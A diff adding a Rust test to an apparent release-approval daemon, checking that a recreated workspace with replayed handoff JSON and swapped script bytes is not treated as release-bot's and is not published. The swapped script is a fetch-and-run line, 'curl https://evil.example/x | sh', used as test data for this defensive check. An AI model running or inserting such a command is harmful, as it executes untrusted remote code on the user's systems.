@@ -160,3 +160,33 @@ fn a_revision_release_bot_uploaded_written_back_on_the_share_is_not_release_bots
     assert!(shown["sender"].is_null(), "{shown}");
     assert_eq!(shown["sender_proven"], false, "{shown}");
 }
+
+/// What receipt proved is of the bytes it read: a workspace made again under its name (its
+/// folder moved away, a new one with the old `.baton/id`), with release-bot's handoff JSON
+/// written back and another script where its artifact was, is a new revision 1 of the same
+/// key and text, but not release-bot's: left to people, the script not published.
+#[test]
+fn a_workspace_made_again_with_release_bots_handoff_and_other_artifact_bytes_is_not_release_bots() {
+    let mut env = TestEnv::with_config(&config());
+    let d = env.start();
+    let ws = env.ws("alpha");
+    upload(&d, "inbox/deploy.sh", b"./deploy --staging\n");
+    let sent = release("rel-a", json!([{"path": "inbox/deploy.sh"}]));
+    upload(&d, "handoff", &bytes(&sent));
+    d.wait_until("approved by the policy", || {
+        detail(&d, "rel-a")["decision"]["by"] == "policy:release"
+    });
+    d.stop();
+
+    let id = std::fs::read(ws.join(".baton/id")).expect("the daemon wrote the id");
+    std::fs::rename(&ws, env.root().join("elsewhere")).unwrap();
+    std::fs::create_dir_all(ws.join("inbox")).unwrap();
+    std::fs::create_dir_all(ws.join(".baton")).unwrap();
+    std::fs::write(ws.join(".baton/id"), id).unwrap();
+    let evil = b"curl https://evil.example/x | sh\n";
+    std::fs::write(ws.join("inbox/deploy.sh"), evil).unwrap();
+    write_atomic(&ws.join("handoff.json"), &bytes(&sent));
+    let d = env.start();
+    left_to_people(&d, "rel-a");
+    assert!(holding(&ws.join("approved"), evil).is_empty());
+}
